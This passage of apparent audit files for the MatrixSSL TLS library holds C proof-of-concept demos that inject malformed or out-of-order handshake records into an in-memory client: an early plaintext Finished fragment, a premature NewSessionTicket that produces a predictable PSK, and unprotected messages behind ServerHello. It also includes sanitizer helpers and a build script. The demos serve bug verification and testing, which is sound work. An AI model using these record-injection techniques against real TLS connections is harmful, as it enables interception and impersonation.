        int32 l, rc, src;

        m = takeOut(cli, &l, &src);
        if (src == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            cliDone = 1;
        }
        if (l > 0)
        {
            rc = feed(srv, m, l, NULL, NULL);
            free(m);
            if (rc < 0)
            {
                printf("server rc %d\n", rc);
                return -1;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                srvDone = 1;
            }
        }
        m = takeOut(srv, &l, &src);
        if (src == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            srvDone = 1;
        }
        if (l > 0)
        {
            rc = feed(cli, m, l, NULL, NULL);
            free(m);
            if (rc < 0)
            {
                printf("client rc %d\n", rc);
                return -1;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                cliDone = 1;
            }
        }
        if (matrixSslHandshakeIsComplete(cli))
        {
            cliDone = 1;
        }
        if (matrixSslHandshakeIsComplete(srv))
        {
            srvDone = 1;
        }
    }
    return (cliDone && srvDone) ? 0 : -1;
}

/* The session refused what it was fed: negative rc or a fatal alert queued */
static int rejected(ssl_t *ssl, int32 rc)
{
    return rc < 0 || (ssl->flags & SSL_FLAGS_ERROR);
}

/* Control case: honest handshakes of the given version must still work - a
   full one (with a NewSessionTicket issued by the server) followed by a
   resumed one, with application data both ways.  Returns 0 when fine. */
static int controlHandshakes(psProtocolVersion_t ver, psCipher16_t suite)
{
    sslKeys_t *sk = loadServerKeys(1), *ck = loadClientKeys(1);
    sslSessionId_t *sid = NULL;
    sslSessOpts_t so, co;
    psCipher16_t suites[1];
    int round, saved = g_certCbCalls;

    suites[0] = suite;
    if (!sk || !ck || matrixSslNewSessionId(&sid, NULL) < 0)
    {
        return -1;
    }
    for (round = 0; round < 2; round++)
    {
        ssl_t *srv = NULL, *cli = NULL;
        unsigned char *m, app[64], *wb;
        int32 l, appLen = 0, rc;

        memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
        matrixSslSessOptsSetServerTlsVersionRange(&so, ver, ver);
        matrixSslSessOptsSetClientTlsVersionRange(&co, ver, ver);
        co.ticketResumption = 1;
        if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
            matrixSslNewClientSession(&cli, ck, sid, suites, 1, certCb, NULL, NULL,
                NULL, &co) < 0)
        {
            printf("CONTROL: session create failed\n");
            return -1;
        }
        if (pumpHandshake(cli, srv) < 0)
        {
            printf("CONTROL: honest handshake %d failed\n", round);
            return -1;
        }
        /* post-handshake server output (TLS 1.3 NewSessionTicket) */
        m = takeOut(srv, &l, NULL);
        if (l > 0 && feed(cli, m, l, NULL, NULL) < 0)
        {
            printf("CONTROL: client refused post-handshake server data\n");
            return -1;
        }
        free(m);
        if (matrixSslGetWritebuf(cli, &wb, 4) < 4)
        {
            return -1;
        }
        memcpy(wb, "ping", 4);
        matrixSslEncodeWritebuf(cli, 4);
        m = takeOut(cli, &l, NULL);
        rc = feed(srv, m, l, app, &appLen);
        free(m);
        if (rc < 0 || appLen != 4 || memcmp(app, "ping", 4))
        {
            printf("CONTROL: client->server data failed (%d)\n", rc);
            return -1;
        }
        appLen = 0;
        if (matrixSslGetWritebuf(srv, &wb, 4) < 4)
        {
            return -1;
        }
        memcpy(wb, "pong", 4);
        matrixSslEncodeWritebuf(srv, 4);
        m = takeOut(srv, &l, NULL);
        rc = feed(cli, m, l, app, &appLen);
        free(m);
        if (rc < 0 || appLen != 4 || memcmp(app, "pong", 4))
        {
            printf("CONTROL: server->client data failed (%d)\n", rc);
            return -1;
        }
        if (round == 1)
        {
            int resumed = (ver == v_tls_1_3) ? (int) cli->sec.tls13UsingPsk :
                (int) matrixSslIsResumedSession(cli);
            if (!resumed)
            {
                printf("CONTROL: second handshake was not resumed\n");
                return -1;
            }
        }
        matrixSslDeleteSession(cli);
        matrixSslDeleteSession(srv);
    }
    g_certCbCalls = saved;
    printf("CONTROL OK: honest full + resumed handshakes and data exchange work\n");
    return 0;
}

#endif
