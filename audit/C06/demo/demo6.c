/*
   demo6 (extra, not in findings.json): TLS 1.2 - a Finished message that
   BEGINS before ChangeCipherSpec is accepted.  The first 6 bytes of the
   server's Finished arrive in a plaintext handshake record, then CCS, then the
   remaining 10 bytes under the new keys.  The fragment reassembly in
   parseSSLHandshake() (sslDecode.c) stores the first fragment while the
   session is still reading plaintext; parseFinished() tests READ_SECURE only
   when the last fragment has arrived.
*/
#include "common.h"
static int gcm12Seal(const unsigned char *key, const unsigned char *salt, uint64_t seq, unsigned char type, const unsigned char *pt, int ptLen, unsigned char *out)
{
    psAesGcm_t ctx; unsigned char k[32]={0}, nonce[16]={0}, aad[13]; int i;
    memcpy(k,key,16); memcpy(nonce,salt,4);
    for(i=0;i<8;i++){ nonce[4+i]=aad[i]=(unsigned char)(seq>>(56-8*i)); }
    aad[8]=type;aad[9]=3;aad[10]=3;aad[11]=ptLen>>8;aad[12]=ptLen&0xff;
    out[0]=type;out[1]=3;out[2]=3;out[3]=(8+ptLen+16)>>8;out[4]=(8+ptLen+16)&0xff;
    memcpy(out+5,nonce+4,8);
    psAesInitGCM(&ctx,k,16); psAesReadyGCM(&ctx,nonce,aad,13); psAesEncryptGCM(&ctx,pt,out+13,ptLen); psAesGetGCMTag(&ctx,16,out+13+ptLen);
    return 5+8+ptLen+16;
}
static int gcm12Open(const unsigned char *key, const unsigned char *salt, const unsigned char *rec, unsigned char *pt)
{
    psAesGcm_t ctx; unsigned char k[32]={0}, nonce[16]={0}, aad[13];
    int len=(rec[3]<<8)|rec[4], ptLen=len-8-16, rc;
    memcpy(k,key,16); memcpy(nonce,salt,4); memcpy(nonce+4,rec+5,8); memcpy(aad,rec+5,8);
    aad[8]=rec[0];aad[9]=3;aad[10]=3;aad[11]=ptLen>>8;aad[12]=ptLen&0xff;
    psAesInitGCM(&ctx,k,16); psAesReadyGCM(&ctx,nonce,aad,13);
    rc=psAesDecryptGCM(&ctx,rec+13,ptLen+16,pt,ptLen); return rc<0?-1:ptLen;
}
int main(void){
    sslKeys_t *sk,*ck; ssl_t *srv=NULL,*cli=NULL; sslSessOpts_t so,co;
    psCipher16_t suites[1]={0x009C};
    unsigned char *m, out[256], fin[64], rec[64]; int32 l, rc, n, round;
    matrixSslOpen();
    if (controlHandshakes(v_tls_1_2, 0x009C) < 0) { printf("CONTROL FAILED\n"); return 3; }
    sk=loadServerKeys(0); ck=loadClientKeys(0);
    memset(&so,0,sizeof(so)); memset(&co,0,sizeof(co));
    matrixSslSessOptsSetServerTlsVersionRange(&so,v_tls_1_2,v_tls_1_2);
    matrixSslSessOptsSetClientTlsVersionRange(&co,v_tls_1_2,v_tls_1_2);
    matrixSslNewServerSession(&srv,sk,NULL,&so);
    matrixSslNewClientSession(&cli,ck,NULL,suites,1,certCb,NULL,NULL,NULL,&co);
    for (round=0; round<2; round++){ m=takeOut(cli,&l,NULL); rc=feed(srv,m,l,NULL,NULL); m=takeOut(srv,&l,NULL); if(round==0) rc=feed(cli,m,l,NULL,NULL); }
    n=gcm12Open(srv->sec.writeKey,srv->sec.writeIV,m+6,fin);
    if (n == 16) {
        /* control: a Finished fragmented over two records AFTER the CCS is legal and must keep working */
        ssl_t *srv2=NULL,*cli2=NULL; unsigned char *m2, fin2[64]; int32 l2;
        matrixSslNewServerSession(&srv2,sk,NULL,&so);
        matrixSslNewClientSession(&cli2,ck,NULL,suites,1,certCb,NULL,NULL,NULL,&co);
        for (round=0; round<2; round++){ m2=takeOut(cli2,&l2,NULL); rc=feed(srv2,m2,l2,NULL,NULL); m2=takeOut(srv2,&l2,NULL); if(round==0) rc=feed(cli2,m2,l2,NULL,NULL); }
        gcm12Open(srv2->sec.writeKey,srv2->sec.writeIV,m2+6,fin2);
        rc=feed(cli2,m2,6,NULL,NULL);
        n=gcm12Seal(srv2->sec.writeKey,srv2->sec.writeIV,0,22,fin2,6,out); rc=feed(cli2,out,n,NULL,NULL);
        n=gcm12Seal(srv2->sec.writeKey,srv2->sec.writeIV,1,22,fin2+6,10,out); rc=feed(cli2,out,n,NULL,NULL);
        if (rc != MATRIXSSL_HANDSHAKE_COMPLETE) { printf("CONTROL FAILED: fragmented Finished after CCS refused (rc %d)\n", rc); return 3; }
        printf("CONTROL OK: CCS, Finished[0..5], Finished[6..15] (both protected) completes the handshake\n");
        n = 16;
    }
    printf("finished pt len %d type %d\n", n, fin[0]);
    rec[0]=22;rec[1]=3;rec[2]=3;rec[3]=0;rec[4]=6; memcpy(rec+5,fin,6);
    rc=feed(cli,rec,11,NULL,NULL); printf("plaintext first 6 bytes of Finished BEFORE CCS: rc=%d hs=%d err=%d\n", rc, cli->hsState, !!(cli->flags&SSL_FLAGS_ERROR));
    rc=feed(cli,m,6,NULL,NULL); printf("CCS: rc=%d hs=%d err=%d\n", rc, cli->hsState, !!(cli->flags&SSL_FLAGS_ERROR));
    n=gcm12Seal(srv->sec.writeKey,srv->sec.writeIV,0,22,fin+6,10,out);
    rc=feed(cli,out,n,NULL,NULL); printf("rest of Finished: rc=%d hs=%d err=%d complete=%d\n", rc, cli->hsState, !!(cli->flags&SSL_FLAGS_ERROR), matrixSslHandshakeIsComplete(cli));
    if (rc == MATRIXSSL_HANDSHAKE_COMPLETE && matrixSslHandshakeIsComplete(cli)) {
        printf("VIOLATION: TLS 1.2 client completed the handshake with a Finished message that started (in plaintext) before ChangeCipherSpec\n");
        return 1; }
    printf("OK: handshake did not complete (alert %d)\n", cli->err);
    return 0; }
