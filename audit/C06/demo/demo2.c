/*
   demo2: TLS 1.3 client accepts a NewSessionTicket BEFORE the server's
   Finished (tls13CheckHsState allows NEW_SESSION_TICKET in state
   SSL_HS_TLS_1_3_WAIT_FINISHED on the client).

   Legal server flight:  SH, EE, Certificate, CertificateVerify, Finished
   Delivered here:       SH, EE, Certificate, CertificateVerify, NST, Finished

   The premature post-handshake message is accepted, the handshake completes,
   and the ticket is stored with a PSK derived from a resumption_master_secret
   that does not exist yet (all zero), i.e. a PSK anybody who sees the ticket
   nonce can compute.
*/
#include "common.h"

static int tls13Seal(const unsigned char *key, const unsigned char *iv,
    uint64_t seq, unsigned char innerType, const unsigned char *pt, int ptLen,
    unsigned char *out)
{
    psAesGcm_t ctx;
    unsigned char k[32] = { 0 }, nonce[16] = { 0 }, inner[2048];
    int i, len = ptLen + 1 + 16;

    memcpy(k, key, 16);
    memcpy(nonce, iv, 12);
    for (i = 0; i < 8; i++)
    {
        nonce[11 - i] ^= (unsigned char) (seq >> (8 * i));
    }
    memcpy(inner, pt, ptLen);
    inner[ptLen] = innerType;
    out[0] = 23; out[1] = 3; out[2] = 3; out[3] = len >> 8; out[4] = len & 0xff;
    psAesInitGCM(&ctx, k, 16);
    psAesReadyGCM(&ctx, nonce, out, 5);
    psAesEncryptGCM(&ctx, inner, out + 5, ptLen + 1);
    psAesGetGCMTag(&ctx, 16, out + 5 + ptLen + 1);
    psAesClearGCM(&ctx);
    return 5 + len;
}

static int tls13Open(const unsigned char *key, const unsigned char *iv,
    uint64_t seq, const unsigned char *rec, unsigned char *pt)
{
    psAesGcm_t ctx;
    unsigned char k[32] = { 0 }, nonce[16] = { 0 };
    int i, len = (rec[3] << 8) | rec[4], n = len - 16;

    memcpy(k, key, 16);
    memcpy(nonce, iv, 12);
    for (i = 0; i < 8; i++)
    {
        nonce[11 - i] ^= (unsigned char) (seq >> (8 * i));
    }
    psAesInitGCM(&ctx, k, 16);
    psAesReadyGCM(&ctx, nonce, rec, 5);
    if (psAesDecryptGCM(&ctx, rec + 5, len, pt, n) < 0)
    {
        return -1;
    }
    psAesClearGCM(&ctx);
    while (n > 0 && pt[n - 1] == 0)
    {
        n--;
    }
    return n - 1; /* strip inner content type */
}

int main(void)
{
    sslKeys_t *sk, *ck;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessionId_t *sid = NULL;
    sslSessOpts_t so, co;
    psCipher16_t suites[1] = { TLS_AES_128_GCM_SHA256 };
    unsigned char *m, *recs[8], key[16], iv[12], fin[128], out[512];
    unsigned char nst[] = {
        0x04, 0x00, 0x00, 0x12,             /* new_session_ticket, 18 bytes */
        0x00, 0x00, 0x0e, 0x10,             /* ticket_lifetime 3600 */
        0x00, 0x00, 0x00, 0x00,             /* ticket_age_add */
        0x01, 0x42,                         /* ticket_nonce<1> = 42 */
        0x00, 0x04, 'T', 'K', 'T', '!',     /* ticket */
        0x00, 0x00                          /* extensions */
    };
    int32 l, rc, finLen, n, p, nrec = 0;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if (controlHandshakes(v_tls_1_3, TLS_AES_128_GCM_SHA256) < 0)
    {
        printf("CONTROL FAILED\n");
        return 3;
    }
    sk = loadServerKeys(0);     /* no ticket keys: the real server sends no NST */
    ck = loadClientKeys(0);
    matrixSslNewSessionId(&sid, NULL);
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersionRange(&so, v_tls_1_3, v_tls_1_3);
    matrixSslSessOptsSetClientTlsVersionRange(&co, v_tls_1_3, v_tls_1_3);
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, sid, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        printf("session create failed\n");
        return 2;
    }
    m = takeOut(cli, &l, NULL);
    rc = feed(srv, m, l, NULL, NULL);
    free(m);
    m = takeOut(srv, &l, NULL);
    for (p = 0; p < l && nrec < 8; p += 5 + ((m[p + 3] << 8) | m[p + 4]))
    {
        recs[nrec++] = m + p;
    }
    printf("server flight: %d records (SH + %d protected)\n", nrec, nrec - 1);
    if (nrec != 5)
    {
        printf("unexpected flight layout\n");
        return 2;
    }
    /* SH, EE, Certificate, CertificateVerify exactly as the server sent them */
    rc = feed(cli, recs[0], (int32) (recs[4] - recs[0]), NULL, NULL);
    printf("client after SH,EE,Cert,CV: rc=%d hsState=%d (WAIT_FINISHED=%d)\n",
        rc, cli->hsState, SSL_HS_TLS_1_3_WAIT_FINISHED);
    if (rc < 0 || cli->hsState != SSL_HS_TLS_1_3_WAIT_FINISHED)
    {
        return 2;
    }
    /* what the server itself uses to protect its flight */
    memcpy(key, cli->sec.tls13HsReadKey, 16);
    memcpy(iv, cli->sec.tls13HsReadIv, 12);
    finLen = tls13Open(key, iv, 3, recs[4], fin);
    if (finLen < 4 || fin[0] != SSL_HS_FINISHED)
    {
        printf("could not open the server Finished record (%d)\n", finLen);
        return 2;
    }
    hexdump("client resumption_master_secret at this point",
        cli->sec.tls13ResumptionMasterSecret, 32);

    /* premature NewSessionTicket, then the server's own Finished */
    n = tls13Seal(key, iv, 3, 22, nst, sizeof(nst), out);
    rc = feed(cli, out, n, NULL, NULL);
    printf("client after premature NewSessionTicket: rc=%d hsState=%d flags.error=%d\n",
        rc, cli->hsState, !!(cli->flags & SSL_FLAGS_ERROR));
    if (rejected(cli, rc))
    {
        printf("OK: client rejected the premature NewSessionTicket (rc %d, alert %d)\n",
            rc, cli->err);
        return 0;
    }
    n = tls13Seal(key, iv, 4, 22, fin, finLen, out);
    rc = feed(cli, out, n, NULL, NULL);
    printf("client after Finished: rc=%d hsState=%d\n", rc, cli->hsState);
    free(m);
    m = takeOut(cli, &l, &rc);
    printf("client sent %d bytes (its Finished), SentData rc=%d, handshakeComplete=%d\n",
        l, rc, (int) matrixSslHandshakeIsComplete(cli));
    if (l > 0)
    {
        rc = feed(srv, m, l, NULL, NULL);
        printf("server after client Finished: rc=%d handshakeComplete=%d\n", rc,
            (int) matrixSslHandshakeIsComplete(srv));
    }
    if (matrixSslHandshakeIsComplete(cli))
    {
        int publicPsk = 0;
        if (cli->sid && cli->sid->psk)
        {
            unsigned char zero[32] = { 0 }, expect[32], nonce[1] = { 0x42 };
            psHkdfExpandLabel(NULL, HMAC_SHA256, zero, 32, "resumption", 10,
                nonce, 1, 32, expect);
            publicPsk = (cli->sid->psk->pskLen == 32 &&
                memcmp(expect, cli->sid->psk->pskKey, 32) == 0);
            hexdump("PSK stored with the premature ticket", cli->sid->psk->pskKey,
                cli->sid->psk->pskLen);
            printf("ticket stored in session id object: %.*s; PSK == "
                "HKDF-Expand-Label(0^32, \"resumption\", nonce): %s\n",
                (int) cli->sid->psk->pskIdLen, cli->sid->psk->pskId,
                publicPsk ? "yes" : "no");
        }
        printf("VIOLATION: TLS 1.3 client completed the handshake although a "
            "NewSessionTicket was injected between CertificateVerify and "
            "Finished (no unexpected_message alert)%s\n",
            publicPsk ? "; the stored resumption PSK is derived from an "
            "all-zero resumption_master_secret" : "");
        return 1;
    }
    printf("OK: handshake did not complete\n");
    return 0;
}
