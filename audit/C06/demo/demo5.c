/*
   demo5 (extra, not in findings.json): TLS 1.3 client - handshake messages that follow a key change are
   accepted WITHOUT record protection when they sit in the same record as
   ServerHello.

   RFC 8446 5.1: handshake messages must not span key changes; a ServerHello
   must be the last message of its record.  matrixSslDecodeTls13() switches
   the read keys while it parses ServerHello but keeps looping over the rest
   of the (plaintext) record, so EncryptedExtensions, Certificate,
   CertificateVerify and Finished are taken from cleartext.

   Delivered here: ONE plaintext handshake record = SH || EE || Cert || CV ||
   Finished (the real server's messages, stripped of their protection).
*/
#include "common.h"

static int tls13Open(const unsigned char *key, const unsigned char *iv,
    uint64_t seq, const unsigned char *rec, unsigned char *pt)
{
    psAesGcm_t ctx;
    unsigned char k[32] = { 0 }, nonce[16] = { 0 };
    int i, len = (rec[3] << 8) | rec[4], n = len - 16;

    memcpy(k, key, 16);
    memcpy(nonce, iv, 12);
    for (i = 0; i < 8; i++)
    {
        nonce[11 - i] ^= (unsigned char) (seq >> (8 * i));
    }
    psAesInitGCM(&ctx, k, 16);
    psAesReadyGCM(&ctx, nonce, rec, 5);
    if (psAesDecryptGCM(&ctx, rec + 5, len, pt, n) < 0)
    {
        return -1;
    }
    psAesClearGCM(&ctx);
    while (n > 0 && pt[n - 1] == 0)
    {
        n--;
    }
    return n - 1;
}

int main(void)
{
    sslKeys_t *sk, *ck;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessOpts_t so, co;
    psCipher16_t suites[1] = { TLS_AES_128_GCM_SHA256 };
    unsigned char *m, *recs[8], big[8192];
    int32 l, rc, n, p, nrec = 0, i, pos;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if (controlHandshakes(v_tls_1_3, TLS_AES_128_GCM_SHA256) < 0)
    {
        printf("CONTROL FAILED\n");
        return 3;
    }
    sk = loadServerKeys(0);
    ck = loadClientKeys(0);
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersionRange(&so, v_tls_1_3, v_tls_1_3);
    matrixSslSessOptsSetClientTlsVersionRange(&co, v_tls_1_3, v_tls_1_3);
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, NULL, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        printf("session create failed\n");
        return 2;
    }
    m = takeOut(cli, &l, NULL);
    rc = feed(srv, m, l, NULL, NULL);
    free(m);
    m = takeOut(srv, &l, NULL);
    for (p = 0; p < l && nrec < 8; p += 5 + ((m[p + 3] << 8) | m[p + 4]))
    {
        recs[nrec++] = m + p;
    }
    if (nrec != 5 || recs[0][0] != 22)
    {
        printf("unexpected flight layout\n");
        return 2;
    }
    /* one plaintext record: ServerHello followed by the opened messages */
    pos = 5;
    n = (recs[0][3] << 8) | recs[0][4];
    memcpy(big + pos, recs[0] + 5, n);
    pos += n;
    for (i = 1; i < 5; i++)
    {
        n = tls13Open(srv->sec.tls13HsWriteKey, srv->sec.tls13HsWriteIv, i - 1,
            recs[i], big + pos);
        if (n < 4)
        {
            printf("could not open server record %d\n", i);
            return 2;
        }
        printf("  server message type %d, %d bytes, now in the clear\n", big[pos], n);
        pos += n;
    }
    big[0] = 22; big[1] = 3; big[2] = 3;
    big[3] = (pos - 5) >> 8; big[4] = (pos - 5) & 0xff;
    printf("delivering one PLAINTEXT handshake record of %d bytes: "
        "SH||EE||Certificate||CertificateVerify||Finished\n", pos - 5);
    rc = feed(cli, big, pos, NULL, NULL);
    printf("client rc=%d hsState=%d flags.error=%d cert callback calls=%d\n", rc,
        cli->hsState, !!(cli->flags & SSL_FLAGS_ERROR), g_certCbCalls);
    free(m);
    m = takeOut(cli, &l, &rc);
    printf("client sent %d bytes, SentData rc=%d, handshakeComplete=%d\n", l, rc,
        (int) matrixSslHandshakeIsComplete(cli));
    if (l > 0 && matrixSslHandshakeIsComplete(cli))
    {
        rc = feed(srv, m, l, NULL, NULL);
        printf("server after client Finished: rc=%d handshakeComplete=%d\n", rc,
            (int) matrixSslHandshakeIsComplete(srv));
        printf("VIOLATION: TLS 1.3 client completed the handshake with "
            "EncryptedExtensions, Certificate, CertificateVerify and Finished "
            "received unprotected in the ServerHello record (messages across a "
            "key change, no unexpected_message alert)\n");
        return 1;
    }
    printf("OK: client refused the handshake messages behind ServerHello (rc %d, alert %d)\n", rc, cli->err);
    return 0;
}
