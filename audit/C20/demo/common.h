/* Shared helpers for the C20 audit demos: in-memory client/server pairs
   driven through the public MatrixSSL API, one record flight at a time. */
#ifndef C20_COMMON_H
#define C20_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <unistd.h>
#include <pthread.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

/* ---- sanitizer hooks: turn a report into a VIOLATION line + exit 1 ---- */
#if defined(__SANITIZE_THREAD__)
const char *__tsan_default_options(void)
{
    return "exitcode=1:halt_on_error=1:second_deadlock_stack=1";
}
#endif
#if defined(__SANITIZE_ADDRESS__)
const char *__asan_default_options(void)
{
    return "exitcode=1:detect_leaks=0";
}
void __asan_on_error(void)
{
    static const char m[] =
        "VIOLATION: AddressSanitizer reports a memory error inside the library "
        "(report follows)\n";
    if (write(1, m, sizeof(m) - 1) < 0) { }
}
#endif

static void c20_segv(int sig)
{
    static const char m[] =
        "VIOLATION: the library crashed (SIGSEGV) - see the history printed above\n";
    (void) sig;
    if (write(1, m, sizeof(m) - 1) < 0) { }
    _exit(1);
}

static void c20_install_segv(void)
{
#if !defined(__SANITIZE_ADDRESS__) && !defined(__SANITIZE_THREAD__)
    signal(SIGSEGV, c20_segv);
#else
    (void) c20_segv;
#endif
}

static __attribute__((unused)) int32 c20_certcb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    return alert; /* accept what the library accepted */
}

static __attribute__((unused)) int32 c20_certcb_any(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static __attribute__((unused)) sslKeys_t *c20_server_keys(void)
{
    sslKeys_t *k = NULL;
    if (matrixSslNewKeys(&k, NULL) < 0) return NULL;
    if (matrixSslLoadRsaKeysMem(k, RSA2048, RSA2048_SIZE, RSA2048KEY,
            RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        fprintf(stderr, "server key load failed\n");
        return NULL;
    }
    return k;
}

static __attribute__((unused)) sslKeys_t *c20_client_keys(void)
{
    sslKeys_t *k = NULL;
    if (matrixSslNewKeys(&k, NULL) < 0) return NULL;
    if (matrixSslLoadRsaKeysMem(k, NULL, 0, NULL, 0, RSA2048CA,
            RSA2048CA_SIZE) < 0)
    {
        fprintf(stderr, "client key load failed\n");
        return NULL;
    }
    return k;
}

/* One end of a connection */
typedef struct
{
    ssl_t *ssl;
    int dtls;          /* use the matrixDtls* output calls */
    int done;          /* MATRIXSSL_HANDSHAKE_COMPLETE seen */
    int err;           /* negative rc from the library */
    int alert;         /* alert description received, or -1 */
    unsigned char app[256];
    int appLen;
} c20_end_t;

static __attribute__((unused)) void c20_end_init(c20_end_t *e, ssl_t *ssl)
{
    memset(e, 0, sizeof(*e));
    e->ssl = ssl;
    e->alert = -1;
}

/* Optional tap on the bytes a side sends */
typedef void (*c20_tap_t)(void *ctx, int fromServer,
        const unsigned char *buf, int len);

/* Move everything `from` has to send into `to`.
   Returns number of bytes moved, <0 on library error of `to`. */
static __attribute__((unused)) int c20_flush(c20_end_t *from, c20_end_t *to, int fromServer,
        c20_tap_t tap, void *tapCtx)
{
    unsigned char *out, *in, *pt;
    int32 len, room, n, rc, moved = 0;
    uint32 ptLen;

    while ((len = (from->dtls ? matrixDtlsGetOutdata(from->ssl, &out)
                              : matrixSslGetOutdata(from->ssl, &out))) > 0)
    {
        unsigned char *copy = malloc(len);
        int off = 0;
        memcpy(copy, out, len);
        if (tap) tap(tapCtx, fromServer, copy, len);
        rc = from->dtls ? matrixDtlsSentData(from->ssl, len)
                        : matrixSslSentData(from->ssl, len);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) from->done = 1;
        moved += len;
        while (off < len)
        {
            room = matrixSslGetReadbuf(to->ssl, &in);
            if (room <= 0) { free(copy); to->err = -1; return -1; }
            n = (len - off < room) ? len - off : room;
            memcpy(in, copy + off, n);
            off += n;
            rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
            for (;; )
            {
                if (rc < 0) { to->err = rc; free(copy); return rc; }
                if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) { to->done = 1; break; }
                if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
                {
                    int k = (int) ptLen;
                    if (k > (int) sizeof(to->app) - to->appLen)
                        k = (int) sizeof(to->app) - to->appLen;
                    memcpy(to->app + to->appLen, pt, k);
                    to->appLen += k;
                    rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                    continue;
                }
                if (rc == MATRIXSSL_RECEIVED_ALERT)
                {
                    to->alert = pt[1];
                    if (pt[0] == SSL_ALERT_LEVEL_FATAL)
                    {
                        to->err = -1000 - pt[1];
                        free(copy);
                        return to->err;
                    }
                    rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                    continue;
                }
                break; /* REQUEST_SEND, REQUEST_RECV, SUCCESS */
            }
        }
        free(copy);
    }
    return moved;
}

/* Run until both sides are done or nothing moves. 0 = both completed. */
static __attribute__((unused)) int c20_handshake(c20_end_t *c, c20_end_t *s, c20_tap_t tap, void *ctx)
{
    int i, a, b;
    for (i = 0; i < 40; i++)
    {
        a = c20_flush(c, s, 0, tap, ctx);
        if (a < 0) { /* let the alert travel back */ c20_flush(s, c, 1, tap, ctx); return a; }
        b = c20_flush(s, c, 1, tap, ctx);
        if (b < 0) { c20_flush(c, s, 0, tap, ctx); return b; }
        if (c->done && s->done && (c->dtls || (a == 0 && b == 0))) return 0;
        if (a == 0 && b == 0) return -2; /* stall */
    }
    return -3;
}

static __attribute__((unused)) int c20_send(c20_end_t *from, c20_end_t *to, int fromServer,
        const char *msg)
{
    unsigned char *buf;
    int32 n = (int32) strlen(msg);
    int32 room = matrixSslGetWritebuf(from->ssl, &buf, n);
    if (room < n) return -1;
    memcpy(buf, msg, n);
    if (matrixSslEncodeWritebuf(from->ssl, n) < 0) return -1;
    to->appLen = 0;
    if (c20_flush(from, to, fromServer, NULL, NULL) < 0) return -1;
    if (to->appLen != n || memcmp(to->app, msg, n) != 0) return -2;
    return 0;
}

#endif
