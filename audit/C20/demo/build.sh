#!/bin/sh
# Builds all C20 audit demos.
#   demoN        linked against the static libraries built in the worktree
#                (run `make -j4` at the top level first)
#   demoN.tsan   / demoN.asan: same source linked against a ThreadSanitizer /
#                AddressSanitizer build of an UNMODIFIED copy of the library
#                sources (git archive HEAD -> audit-out/lib-tsan, lib-asan;
#                built here on first use, same default configuration)
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
OUT=$(cd "$HERE/.." && pwd)
JOBS=${JOBS:-4}

INC() { echo "-I$1 -I$1/core/config -I$1/core/include -I$1/core/osdep/include -I$1/core/include/sfzcl"; }
LIBS() { echo "$1/matrixssl/libssl_s.a $1/crypto/libcrypt_s.a $1/core/libcore_s.a"; }
DEFS="-DUSE_CL_PKCS -DUSE_CL_CERTLIB"

sanlib() { # $1 = tsan|asan  $2 = sanitizer flag
    d="$OUT/lib-$1"
    if [ ! -f "$d/matrixssl/libssl_s.a" ]; then
        mkdir -p "$d"
        (cd "$TOP" && git archive HEAD core crypto matrixssl common.mk Makefile makefiles configs) | tar -x -C "$d"
        (cd "$d" && make -j"$JOBS" libs CFLAGS_EXTRA="$2 -g -fno-omit-frame-pointer" OPT="-O1" > build.log 2>&1)
    fi
}

sanlib tsan -fsanitize=thread
sanlib asan -fsanitize=address

cd "$HERE"
for src in demo[0-9]*.c; do
    n=${src%.c}
    cc -O1 -g -Wall $DEFS $(INC "$TOP") -o "$n" "$src" $(LIBS "$TOP") -lpthread
    cc -O1 -g -Wall -fsanitize=thread $DEFS $(INC "$OUT/lib-tsan") -I$TOP -o "$n.tsan" "$src" $(LIBS "$OUT/lib-tsan") -lpthread
    cc -O1 -g -Wall -fsanitize=address $DEFS $(INC "$OUT/lib-asan") -I$TOP -o "$n.asan" "$src" $(LIBS "$OUT/lib-asan") -lpthread
    echo "built $n $n.tsan $n.asan"
done
