/* C20 demo 3: psCRL_RemoveAll() on an empty global CRL cache dereferences
   NULL while holding g_crlTableLock (crypto/keyformat/crl.c):

        psLockMutex(&g_crlTableLock);
        curr = g_CRL;
        next = curr->next;        <- g_CRL == NULL when the cache is empty

   The sibling psCRL_DeleteAll() tests the pointer.  In a multi-threaded
   program the cache is emptied by whoever flushes first (psCRL_RemoveAll,
   psCRL_DeleteAll, psCRL_Delete of the last entry, psX509FreeCRL); the next
   thread that flushes crashes the process - there is no API to test for
   emptiness under the lock, so the caller cannot avoid it.

